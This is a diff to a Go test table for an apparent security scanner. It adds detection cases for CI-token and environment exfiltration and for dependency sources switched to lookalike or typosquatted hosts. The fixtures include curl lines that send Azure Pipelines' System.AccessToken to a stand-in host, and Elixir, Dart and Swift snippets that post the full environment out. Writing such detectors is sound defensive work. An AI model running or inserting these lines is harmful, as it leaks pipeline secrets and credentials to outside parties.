@@ -389,6 +389,13 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
+			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
+			// The environment posted by Elixir's, Dart's and Swift's clients.
+			{"lib/x.ex", "HTTPoison.post!(\"https://x.invalid/c\", Jason.encode!(System.get_env()))", 0, false},
+			{"tool/x.dart", "import 'dart:io';\nvoid main() async {\n  final r = await HttpClient().postUrl(Uri.parse('https://x.invalid/c'));\n  r.write(Platform.environment.toString());\n  await r.close();\n}", 4, false},
+			{"Sources/x.swift", "var r = URLRequest(url: URL(string: \"https://x.invalid/c\")!)\nr.httpMethod = \"POST\"\nr.httpBody = ProcessInfo.processInfo.environment.description.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()", 2, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
@@ -880,6 +887,7 @@ var registry = []Rule{
 			// the packages.
 			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"internal\" \"https://maven.acme-builds.x.invalid/releases\"]])", 2, false},
 			{"Chart.yaml", "dependencies:\n  - name: app\n    repository: https://charts.x.invalid/stable", 3, false},
+			{"x.sh", "helm repo add corp https://charts.x.invalid/stable", 1, false},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -1035,6 +1043,15 @@ var registry = []Rule{
 			// registry's or forge's.
 			{"x.sh", "pip install https://files.pythonhosted-cdn.invalid/packages/requests-2.32.3.tar.gz", 1, false},
 			{"x.sh", "pip install git+https://gitlab-mirror.invalid/acme/lib.git@v1.0", 1, false},
+			// A chart's values: the registry and the images its templates run.
+			{"charts/app/values.yaml", "image:\n  registry: docker-io.invalid\n  repository: bitnami/redis", 2, false},
+			{"charts/app/values.yaml", "image:\n  repository: bitnarni/redis\n  tag: 7.2", 2, false},
+			{"charts/app/values.yaml", "image:\n  registry: docker.io\n  repository: bitnami/redis\n  tag: 7.2\nmetrics:\n  image:\n    repository: docker.io/velero/velero\nservice:\n  repository: ghcr.io/acme/api", 0, true},
+			// A chart repository, chart, remote or git source a command
+			// names, wherever a shell line runs.
+			{"x.sh", "helm repo add bitnami https://charts.bitnami-mirror.invalid/bitnami\nhelm install redis bitnami/redis", 1, false},
+			{"Makefile", "deps:\n\thelm install pg oci://registry-1.docker-io.invalid/bitnamicharts/postgresql", 2, false},
+			{"x.sh", "helm repo add bitnami https://charts.bitnami.com/bitnami\nhelm upgrade --install pg oci://registry-1.docker.io/bitnamicharts/postgresql\ncargo install --git https://github.com/rust-lang/rust-clippy clippy", 0, true},
 			// Any file's URL on a forge's host worn in front of another
 			// domain: no real host is named so.
 			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
